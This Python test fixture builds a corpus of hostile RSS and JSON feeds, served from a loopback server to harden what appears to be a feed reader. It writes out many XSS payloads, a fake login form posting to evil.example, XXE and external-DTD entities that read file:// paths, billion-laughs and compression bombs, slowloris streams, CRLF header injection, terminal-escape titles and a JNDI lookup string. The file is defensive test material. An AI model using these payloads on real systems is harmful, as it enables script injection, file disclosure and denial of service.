"""The G1 hostile-input corpus (RELIABILITY.md §3 G1): feeds served from a loopback server.

`build()` registers one route per case on a `HostileServer` and returns the cases. Every entry
that survives parsing carries the word "probe" (the test watchlist's only term), so it becomes
an alert and goes through every notifier. `OOB` targets point at a second loopback server that
must never be contacted.
"""

from __future__ import annotations

import gzip
import json
import zlib
from collections.abc import Iterator
from dataclasses import dataclass

from tests.hostile.server import HostileServer, Route

PROBE = "probe"
RSS_HEAD = '<?xml version="1.0" encoding="utf-8"?>\n'


@dataclass(frozen=True)
class Case:
    name: str  # also the feed id
    category: str
    path: str


def rss(items: str, prolog: str = RSS_HEAD) -> bytes:
    return (
        f'{prolog}<rss version="2.0"><channel><title>t</title><link>http://127.0.0.1/</link>'
        f"{items}</channel></rss>"
    ).encode()


def item(title: str, text: str, link: str = "http://127.0.0.1/a", guid: str = "") -> str:
    guid = guid or f"{link}#{abs(hash((title, text))) % 10**9}"
    return (
        f"<item><title>{title}</title><link>{link}</link><guid>{guid}</guid>"
        f"<description>{text}</description></item>"
    )


def _probe_item(name: str, extra: str = "") -> str:
    return item(f"{name} {PROBE}", f"{PROBE} item of case {name} {extra}")


# --- XSS vectors (≥ 30): each goes into an item's description as HTML --------------------------

XSS_VECTORS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '<a href="jav&#x09;ascript:alert(1)">tab</a>',
    '<a href="javascript:alert(1)">plain</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">dec</a>',
    '<a href="&#x6A;avascript&#x3A;alert(1)">hex</a>',
    '<a href="JaVaScRiPt:alert(1)">case</a>',
    '<a href=" javascript:alert(1)">space</a>',
    '<a href="java\nscript:alert(1)">newline</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data</a>',
    '<a href="vbscript:msgbox(1)">vb</a>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    '<math><mi><mglyph><svg><mtext><style><path id="</style><img onerror=alert(1) src>">',
    "<svg><script>alert(1)</script></svg>",
    "<svg onload=alert(1)><circle r=1 /></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text>svg link</text></a></svg>',
    '<form action="https://evil.example/"><input name="pw" type="password"><button>go</button></form>',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<base href="javascript:alert(1)//">',
    '<img srcset="x.png 1x, javascript:alert(1) 2x">',
    '<picture><source srcset="javascript:alert(1)"></picture>',
    '<div style="background:url(javascript:alert(1))">styled</div>',
    '<style>@import "javascript:alert(1)"; body{background:url("https://tracker.example/p")}</style>',
    '<iframe src="javascript:alert(1)"></iframe>',
    '<object data="javascript:alert(1)"></object>',
    '<embed src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    '<!--<img src="--><img src=x onerror=alert(1)//">',
    '<img src="https://tracker.example/pixel.gif" width="1" height="1">',
    "<details open ontoggle=alert(1)>details</details>",
    '<a href="#" onclick="alert(1)">click</a>',
    '<video><source onerror="alert(1)"></video>',
    "<input autofocus onfocus=alert(1)>",
    "<template><script>alert(1)</script></template>",
    '<a href="  &#14;javascript:alert(1)">ctrl</a>',
    "<xss onafterscriptexecute=alert(1)><script>1</script>",
]
# Links of items: schemes that must never reach `article.url`.
BAD_LINKS = [
    "javascript:alert(1)",
    "jav&#x09;ascript:alert(1)",
    "JAVASCRIPT:alert(1)",
    "data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;",
    "vbscript:msgbox(1)",
    "file:///etc/passwd",
    "  javascript:alert(1)",
    "java&#x0A;script:alert(1)",
]
# Titles that must come out as one safe line (JSON Feed carries the raw control characters).
HOSTILE_TITLES = [
    "CRLF\r\nBcc: victim@example.com",
    "LF only\nSubject: injected",
    "ESC \x1b[2J\x1b[31mred",
    "OSC 8 \x1b]8;;http://evil.example\x07link\x1b]8;;\x07",
    "bidi \u202eevil\u202c override",
    "isolates \u2066\u2067\u2068\u2069",
    "NUL \x00 and BEL \x07 and DEL \x7f",
    "C1 \x85 NEL \x9b CSI",
    "line sep \u2028 para sep \u2029",
    "zero width \u200b\u200f\ufeff",
    "{{7*7}} {% raw %} ${jndi:ldap://x}",
    "long " + "A" * 10_000,
]


def _xss_feed() -> bytes:
    items = [
        item(f"xss {i} {PROBE}", _xml_escape(f"{PROBE} vector {i}: {v} tail text {i}"))
        for i, v in enumerate(XSS_VECTORS)
    ]
    items += [
        item(f"bad link {i} {PROBE}", f"{PROBE} link case {i}", link=link, guid=f"g-link-{i}")
        for i, link in enumerate(BAD_LINKS)
    ]
    items.append(
        item(
            f"double-encoded {PROBE}",
            _xml_escape(f"{PROBE} says &lt;script&gt;alert(1)&lt;/script&gt; as text"),
        )
    )
    return rss("".join(items))


def _xml_escape(text: str) -> str:
    return text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")


def _titles_feed() -> bytes:
    items = [
        {
            "id": f"t{i}",
            "title": f"{t} {PROBE}",
            "url": "https://example.org/x\r\nX: y",
            "content_text": f"{PROBE} hostile title case {i}",
        }
        for i, t in enumerate(HOSTILE_TITLES)
    ]
    items.append({"id": "surrogate", "title": f"lone \ud800 surrogate {PROBE}",
                  "content_html": f"<p>{PROBE} text with a lone \udfff surrogate</p>"})  # fmt: skip
    return json.dumps(
        {"version": "https://jsonfeed.org/version/1.1", "title": "t", "items": items}
    ).encode("utf-8", "surrogatepass")


# --- XML entity and DTD attacks ---------------------------------------------------------------


def _lol(depth: int = 9) -> str:
    lines = ['<!ENTITY lol0 "lol">']
    lines += [f'<!ENTITY lol{i} "{("&lol" + str(i - 1) + ";") * 10}">' for i in range(1, depth + 1)]
    return "\n".join(lines)


def _quadratic(size: int, refs: int) -> bytes:
    body = rss(item(f"quad {PROBE}", "&a;" * refs), prolog=RSS_HEAD)
    return body.replace(b"<rss", f'<!DOCTYPE rss [<!ENTITY a "{"B" * size}">]>\n<rss'.encode(), 1)


def _gzip_bomb(size: int) -> bytes:
    compressor = zlib.compressobj(9, zlib.DEFLATED, 16 + zlib.MAX_WBITS)
    chunk = b"\0" * (1 << 20)
    return b"".join([*(compressor.compress(chunk) for _ in range(size >> 20)), compressor.flush()])


def _deflate_bomb(size: int) -> bytes:
    compressor = zlib.compressobj(9)
    chunk = b" " * (1 << 20)
    return b"".join([*(compressor.compress(chunk) for _ in range(size >> 20)), compressor.flush()])


def _stream(total: int, chunk: int = 1 << 16) -> Iterator[bytes]:
    head = rss(_probe_item("oversize")).split(b"</channel>")[0]
    yield head
    block = b"<!-- " + b"x" * (chunk - 9) + b" -->"
    for _ in range(total // chunk):
        yield block


def _trickle(body: bytes) -> Iterator[bytes]:
    for i in range(len(body)):
        yield body[i : i + 1]


def build(server: HostileServer, oob: HostileServer, canary: str) -> list[Case]:
    """Register every case on `server`; returns them. `canary`: an absolute file path."""
    cases: list[Case] = []
    oob.routes.update({p: Route(b"<!ENTITY x 'oob'>") for p in ("/dtd", "/xi", "/xsl", "/e")})

    def add(name: str, category: str, route: Route) -> None:
        path = f"/{name}.xml"
        server.routes[path] = route
        cases.append(Case(name, category, path))

    ok_item = _probe_item("carrier")
    xml = {"Content-Type": "application/rss+xml"}
    # XXE and DTD (F1, PX-3): no file or network access, ever.
    xxe = [
        ("xxe-file-own-line", f'<!DOCTYPE rss [\n<!ENTITY xxe SYSTEM "file://{canary}">\n]>'),
        ("xxe-file-inline", f'<!DOCTYPE rss [<!ENTITY xxe SYSTEM "file://{canary}">]>'),
        ("xxe-http", f'<!DOCTYPE rss [<!ENTITY xxe SYSTEM "{oob.url("/e")}">]>'),
        ("dtd-external-system", f'<!DOCTYPE rss SYSTEM "{oob.url("/dtd")}">'),
        ("dtd-external-public", f'<!DOCTYPE rss PUBLIC "-//X//Y//EN" "{oob.url("/dtd")}">'),
        ("xxe-parameter-one-line",
         f'<!DOCTYPE rss [<!ENTITY % p SYSTEM "{oob.url("/dtd")}"> %p;]>'),
        ("xxe-parameter-multi-line",
         f'<!DOCTYPE rss [\n  <!ENTITY\n  %\n  p\n  SYSTEM\n  "{oob.url("/dtd")}">\n  %p;\n]>'),
        ("xml-stylesheet", f'<?xml-stylesheet type="text/xsl" href="{oob.url("/xsl")}"?>'),
    ]  # fmt: skip
    for name, decl in xxe:
        add(name, "xxe", Route(rss(ok_item.replace("</description>", " &xxe;</description>")
                                   if "ENTITY xxe" in decl else ok_item,
                                   prolog=RSS_HEAD + decl + "\n"), headers=xml))  # fmt: skip
    add("xinclude", "xxe", Route(rss(ok_item + f'<xi:include xmlns:xi="http://www.w3.org/2001/'
                                     f'XInclude" href="{oob.url("/xi")}" parse="text"/>'),
                                 headers=xml))  # fmt: skip
    utf16 = rss(ok_item, prolog=f'<?xml version="1.0" encoding="utf-16"?>\n<!DOCTYPE rss [<!ENTITY '
                f'xxe SYSTEM "file://{canary}">]>\n')  # fmt: skip
    add("xxe-utf16", "xxe", Route(b"\xff\xfe" + utf16.decode().encode("utf-16-le"), headers=xml))

    # Entity expansion bombs (F2, PX-2): refused before feedparser.
    add("billion-laughs", "entity", Route(rss(item(f"lol {PROBE}", "&lol9;"),
                                              prolog=f"{RSS_HEAD}<!DOCTYPE rss [\n{_lol()}\n]>\n")))  # fmt: skip
    add("quadratic-20k", "entity", Route(_quadratic(2_000, 10)))
    add("quadratic-60k", "entity", Route(_quadratic(5_000, 11_000)))
    add("quadratic-200k", "entity", Route(_quadratic(10_000, 40_000)))
    add("junk-before-prolog", "entity", Route(b"\n\x00garbage\xff " + _quadratic(5_000, 11_000)))
    add("no-prolog-bomb", "entity",
        Route(_quadratic(5_000, 11_000).replace(RSS_HEAD.encode(), b"")))  # fmt: skip
    add(
        "entity-mixed-case", "entity", Route(_quadratic(5_000, 2_000).replace(b"ENTITY", b"eNtItY"))
    )
    add("billion-laughs-utf16", "entity",
        Route("\ufeff".encode("utf-16-le") + rss(item(PROBE, "&lol9;"), prolog=(
            f'<?xml version="1.0" encoding="utf-16"?><!DOCTYPE rss [{_lol()}]>')
        ).decode().encode("utf-16-le")))  # fmt: skip
    add("malformed-entity-space", "entity",
        Route(_quadratic(5_000, 11_000).replace(b"<!ENTITY", b"<! ENTITY")))  # fmt: skip

    # Compression bombs (F6, NET-3, NET-4): cut off at max_body while decoding.
    add(
        "gzip-bomb",
        "compression",
        Route(_gzip_bomb(200 << 20), headers={"Content-Encoding": "gzip"}),
    )
    add("deflate-bomb", "compression",
        Route(_deflate_bomb(200 << 20), headers={"Content-Encoding": "deflate"}))  # fmt: skip
    add("gzip-gzip-nested", "compression",
        Route(gzip.compress(_gzip_bomb(50 << 20)), headers={"Content-Encoding": "gzip, gzip"}))  # fmt: skip
    add("huge-declared-length", "compression",
        Route(lambda: _stream(30 << 20), headers={"Content-Length": str(1 << 40)}))  # fmt: skip
    add(
        "brotli-unasked",
        "compression",
        Route(b"\x1b\xff\xff" * 1000, headers={"Content-Encoding": "br"}),
    )

    # Size, time and redirects (NET-1, NET-2, NET-6).
    add("oversize", "size", Route(lambda: _stream(50 << 20)))
    add("slow-loris", "time", Route(lambda: _trickle(rss(ok_item)), delay=0.25, max_seconds=20))
    add("slow-headers", "time", Route(rss(ok_item), header_delay=8))
    server.routes["/loop.xml"] = Route(status=302, headers={"Location": "/loop.xml"})
    cases.append(Case("redirect-loop", "redirect", "/loop.xml"))
    add(
        "redirect-to-file",
        "redirect",
        Route(status=301, headers={"Location": "file:///etc/passwd"}),
    )
    add("redirect-to-gopher", "redirect",
        Route(status=302, headers={"Location": "gopher://127.0.0.1:70/_x"}))  # fmt: skip

    # Path-shaped body (F3, PX-1): feedparser must never open it.
    add("canary-path", "canary", Route(canary.encode(), headers=xml))
    add("canary-file-url", "canary", Route(f"file://{canary}".encode(), headers=xml))

    # Encodings (PX-6): 10+ lying or broken encodings; none may raise.
    gbk = "中國與俄羅斯 probe 武器".encode("gbk")
    big5 = "中國與俄羅斯 probe 武器".encode("big5")
    enc = [
        ("enc-gbk-declared-utf8", rss(item(PROBE, "")).replace(
            b"<description></description>", b"<description>" + gbk + b"</description>")),
        ("enc-big5-declared-utf8", rss(item(PROBE, "")).replace(
            b"<description></description>", b"<description>" + big5 + b"</description>")),
        ("enc-utf16-bom", b"\xff\xfe" + rss(_probe_item("u16"), prolog='<?xml version="1.0" '
            'encoding="utf-16"?>').decode().encode("utf-16-le")),
        ("enc-utf16-no-bom", rss(_probe_item("u16nb"), prolog='<?xml version="1.0" '
            'encoding="utf-16"?>').decode().encode("utf-16-le")),
        ("enc-utf32", rss(_probe_item("u32"), prolog='<?xml version="1.0" encoding="utf-32"?>'
            ).decode().encode("utf-32")),
        ("enc-nul-bytes", rss(_probe_item("nul")).replace(b"item of", b"item\x00\x00of")),
        ("enc-overlong-utf8", rss(_probe_item("overlong")).replace(b"item of", b"item \xc0\xaf\xe0\x80\xaf of")),
        ("enc-bad-continuation", rss(_probe_item("cont")).replace(b"item of", b"item \xe4\xb8 \xff\xfe of")),
        ("enc-unknown-charset", rss(_probe_item("bogus"), prolog='<?xml version="1.0" encoding="x-bogus-42"?>')),
        ("enc-utf7", rss(item(PROBE, "+ADw-script+AD4-alert(1)+ADw-/script+AD4- probe utf7"),
            prolog='<?xml version="1.0" encoding="utf-7"?>')),
        ("enc-lone-surrogate-json", json.dumps({
            "version": "https://jsonfeed.org/version/1", "items": [{"id": "s", "title": "\ud800 probe",
            "content_text": "probe \udbff lone"}]}).encode()),
    ]  # fmt: skip
    for name, body in enc:
        add(name, "encoding", Route(body, headers={"Content-Type": "application/xml; charset=utf-8"}
                                    if "json" not in name else {"Content-Type": "application/feed+json"}))  # fmt: skip
    add("enc-header-conflict", "encoding",
        Route(rss(_probe_item("conflict")), headers={"Content-Type": "text/xml; charset=utf-16"}))  # fmt: skip

    # HTML injection (F4, HTML-1..3, PX-8) and hostile titles (EM-5, HTML-2).
    add("xss", "xss", Route(_xss_feed(), headers=xml))
    add(
        "titles", "titles", Route(_titles_feed(), headers={"Content-Type": "application/feed+json"})
    )
    return cases
